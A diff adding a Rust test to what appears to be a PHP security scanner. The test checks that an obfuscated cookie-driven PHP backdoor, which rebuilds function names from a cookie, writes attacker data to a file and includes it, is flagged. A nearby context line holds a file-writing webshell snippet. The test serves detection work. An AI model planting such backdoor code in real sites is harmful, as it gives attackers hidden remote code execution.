@@ -675,3 +675,17 @@ fn the_command_line_check_reads_the_tokens_only_when_a_finding_asks() {
     let (n, found) = reads("<?php if (php_sapi_name() !== 'cli') exit; file_put_contents($_GET['f'], $_POST['d']);");
     assert_eq!((n, found), (1, vec![]));
 }
+
+#[test]
+fn a_table_of_functions_cut_from_a_cookie_is_a_backdoor() {
+    // The names arrive in pieces of one cookie, a few characters apart, and are put together
+    // in a loop: no name is ever known, three of them are called.
+    let dropper = "<?php $c = $_COOKIE; $k = 0; $n = 4; $p = array(); $p[$k] = '';
+        while ($n) { $p[$k] .= $c[21][$n]; if (!$c[21][$n + 1]) { if (!$c[21][$n + 2]) break; $k++; $p[$k] = ''; $n++; } $n = $n + 4 + 1; }
+        $f = $p[0]() . $p[11]; if (!$p[5]($f)) { $h = $p[2]($f, $p[7]); $p[9]($h, $p[3]); } include($f);";
+    assert!(sinks(dropper).contains(&(Why::DynamicCallFromInput, Danger::Critical)), "{:?}", sinks(dropper));
+    // An application keeps request data and its own handlers in one array: two calls.
+    let app = "<?php $ctx = array(); $ctx['q'] = $_GET['q']; $ctx['fmt'] = get_formatter();
+        $ctx['log'] = get_logger(); echo $ctx['fmt']($ctx['q']); $ctx['log']('done');";
+    assert!(!sinks(app).iter().any(|(w, _)| *w == Why::DynamicCallFromInput), "{:?}", sinks(app));
+}
